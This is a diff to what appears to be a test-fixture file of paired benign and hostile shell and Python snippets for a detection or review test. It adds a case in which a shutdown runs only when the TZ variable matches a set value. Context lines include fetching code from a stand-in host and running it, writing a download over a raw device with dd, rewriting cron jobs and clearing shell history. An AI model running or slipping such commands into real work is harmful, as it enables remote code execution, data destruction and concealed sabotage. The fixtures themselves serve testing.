@@ -100,6 +100,7 @@ BROUGHT = "wget -qO /srv/{name} http://c.example/t\nchmod +x /srv/tool\n{name} /
 ONTO_DEVICE = "wget -qO /tmp/i http://c.example/i\ndd if=/tmp/i of=/dev/{device}\n"
 JOB = "{made}mv /etc/cron.d/x.new /etc/cron.d/x\n"
 EMPTY = "echo '{what}' > /etc/cron.d/job\n"
+ZONED = 'off() {{ shutdown now; }}\nif [ "$TZ" = Asia/Nowhere ]; then {does}; fi\n'
 CASES = {
     "failure in a list": (
         "python", SIGN_IN.format(does='errors["base"] = "no"'), SIGN_IN.format(does="log('no')"),
@@ -171,6 +172,10 @@ CASES = {
     ),
     "a job that does nothing": (
         "shell", EMPTY.format(what="# moved"), EMPTY.format(what="* * * * * root x"),
+    ),
+    "a name in a message": (
+        "shell", ZONED.format(does='logger "shutdown-at-night: hours as in $TZ"'),
+        ZONED.format(does="off"),
     ),
     "history is kept": ("shell", "history -w\n", "history -c\n"),
     "copy": ("python", COPY.format(made="pickle.dumps(1)"), COPY.format(made="open('x').read()")),
